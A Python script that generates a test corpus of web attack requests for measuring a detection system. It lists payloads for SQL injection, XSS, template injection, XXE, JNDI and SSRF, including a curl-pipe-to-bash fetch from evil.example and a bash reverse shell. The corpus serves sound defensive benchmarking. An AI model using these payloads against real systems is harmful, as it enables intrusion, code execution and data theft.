"""A second attack corpus for `make eval-detection`, written after the rules
of issue #13 were: payloads their authors had not seen, to measure how the
detection generalises (BENCHMARKS.md, "A second attack corpus"). Every payload
was written for this project. Requests are built with generate.py's
placements and encodings (7 placements x plain, URL, base64).

Usage: second_corpus.py OUT_FILE
"""
import json
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
import generate as g  # noqa: E402

# Payloads by class, none of them in generate.py.
P = {
 "sqli": ["admin'/**/or/**/'x'='x", "1) or sleep(5)#", "' UNION ALL SELECT NULL,table_name FROM information_schema.tables--",
          "1 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)",
          "'; EXEC xp_cmdshell('dir')--", "-1' or 2>1 --", "1;WAITFOR DELAY '0:0:5'--", "' || pg_sleep(5) || '"],
 "xss": ["<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<details open ontoggle=prompt(1)>",
         "\" autofocus onfocus=alert(document.cookie) x=\"", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
         "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<input onauxclick=confirm(1)>",
         "';alert(String.fromCharCode(88))//", "<video><source onerror=\"javascript:alert(1)\">"],
 "path_traversal": ["..%2f..%2f..%2fetc%2fpasswd", "....\\\\....\\\\windows\\\\system32\\\\drivers\\\\etc\\\\hosts",
                    "/..;/..;/WEB-INF/web.xml", "file/../../../../../../boot.ini", "..././..././..././etc/group",
                    "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"],
 "cmdi": ["|| ping -c 10 127.0.0.1", "; sleep 7 #", "$(curl -s http://evil.example/p|bash)", "&& type C:\\Windows\\win.ini",
          "x\nwhoami\n", "`cat${IFS}/etc/shadow`", "a|bash -i >& /dev/tcp/10.0.0.9/443 0>&1"],
 "ldap": ["*)(objectclass=*", "admin*)((|userpassword=*)", "x)(|(ou=*))", "*)(&(uid=admin)(|(pwd=*)", "(&(cn=*)(|(objectClass=person)"],
 "crlf": ["x\r\nLocation: http://evil.example/", "name\r\nX-Forwarded-For: 1.2.3.4\r\n", "a@b.example\nTo: victim2@example.org",
          "%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1 200 OK", "lang=en\r\nRefresh: 0; url=http://evil.example"],
 "ssi": ["<!--#exec cmd=\"id\"-->", "<!--#include file=\"../../etc/passwd\"-->", "<!--#echo var=\"HTTP_COOKIE\"-->",
         "<esi:include src=\"http://evil.example/x\"/>", "<!--#fsize file=\"/etc/passwd\" -->"],
 "ssti": ["${7*'7'}", "{{''.__class__.__mro__[1].__subclasses__()}}",
          "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
          "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}", "#{7*7}",
          "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}",
          "*{T(java.lang.Runtime).getRuntime().exec('id')}"],
 "nosql": ["{\"username\": {\"$ne\": \"\"}, \"password\": {\"$ne\": \"\"}}", "{\"$or\": [{}, {\"a\": 1}]}", "{\"price\": {\"$lt\": 0}}",
           "' || '1'=='1", "{\"$expr\": {\"$function\": {\"body\": \"function(){sleep(5000)}\"}}}", "[$ne]=1"],
 "xxe": ["<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///c:/windows/win.ini\">]><foo>&xxe;</foo>",
         "<?xml version=\"1.0\"?><!DOCTYPE data [<!ENTITY % dtd SYSTEM \"http://evil.example/evil.dtd\"> %dtd;]><data>&send;</data>",
         "<!DOCTYPE r [<!ENTITY x SYSTEM \"expect://id\">]><r>&x;</r>",
         "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"file:///etc/passwd\"/>",
         "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://evil.example/x.dtd\"><svg/>"],
 "jndi": ["${jndi:ldap://${hostName}.evil.example/a}", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/x}",
          "${jndi:iiop://evil.example/x}", "${${upper:j}ndi:${upper:r}mi://evil.example/y}", "${jndi:ldap://127.0.0.1#evil.example:1389/z}"],
 "php": ["<?= `id` ?>", "system($_REQUEST['x']);", "O:8:\"stdClass\":1:{s:4:\"evil\";s:2:\"id\";}", "expect://id",
         "phar://uploads/avatar.jpg/shell.php", "preg_replace('/.*/e','system(\"id\")','x');",
         "file_put_contents('s.php','<?php system($_GET[1]);');"],
 "ssrf": ["http://127.1:22/", "http://2130706433/admin", "http://localhost:6379/", "dict://127.0.0.1:11211/stats",
          "http://[0:0:0:0:0:ffff:127.0.0.1]/", "http://169.254.169.254.nip.io/latest/meta-data/",
          "http://metadata/computeMetadata/v1/instance/", "ftp://10.0.0.5/etc/passwd"],
}
PL = ["query", "path", "form", "json", "header", "cookie", "user_agent"]
ENC = ["plain", "url", "base64"]


def main():
    if len(sys.argv) != 2:
        sys.exit("usage: second_corpus.py OUT_FILE")
    n = 0
    with open(sys.argv[1], "w", encoding="utf-8") as f:
        for rec in g.placed_attacks("", P, PL, ENC):
            f.write(json.dumps(rec, ensure_ascii=False) + "\n")
            n += 1
    print(f"{sys.argv[1]}: {n} attack requests")


if __name__ == "__main__":
    main()
